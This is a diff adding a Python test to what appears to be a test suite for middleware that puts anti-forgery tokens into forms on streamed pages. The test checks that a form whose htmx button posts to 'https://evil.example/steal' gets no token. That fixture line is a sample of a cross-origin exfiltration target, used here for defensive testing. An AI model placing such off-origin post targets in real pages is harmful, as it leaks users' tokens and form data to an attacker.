@@ -418,6 +418,24 @@ def test_a_later_base_in_a_streamed_page_cannot_widen_what_one_forms_fields_open
                      path=f"/app/u/{index + 1}/delete", status=403)
 
 
+def test_htmx_shown_late_in_a_streamed_page_counts_for_the_forms_after(
+    make_app: AppFactory,
+) -> None:
+    """A streamed page that loads htmx only in a later piece: a form after it whose button's
+    hx-post leaves the origin gets no tokens, and the form after that gets them and posts."""
+    first = '<html><head></head><body><form method="post" action="a"><button>a</button></form>'
+    page = (first.ljust(700) + '<script src="/static/htmx.min.js"></script>'
+            '<form method="post" action="b"><button hx-post="https://evil.example/steal">Go'
+            '</button></form><form method="post" action="c"><button>c</button></form>'
+            "</body></html>")
+    app = make_app(inner_app=streaming(page, size=700))
+    body = app.get("/app/list").body
+    forms = list_forms(body)
+    assert [("__VIEWSTATE" in form) for form in forms] == [True, False, True]
+    assert body.count(b"evil.example") == 1  # (the page's own button, and nothing else)
+    postback(app, forms[2], path="/app/c")
+
+
 def test_forms_without_an_action_share_a_token_unkeyed_in_any_piece(
     make_app: AppFactory,
 ) -> None:
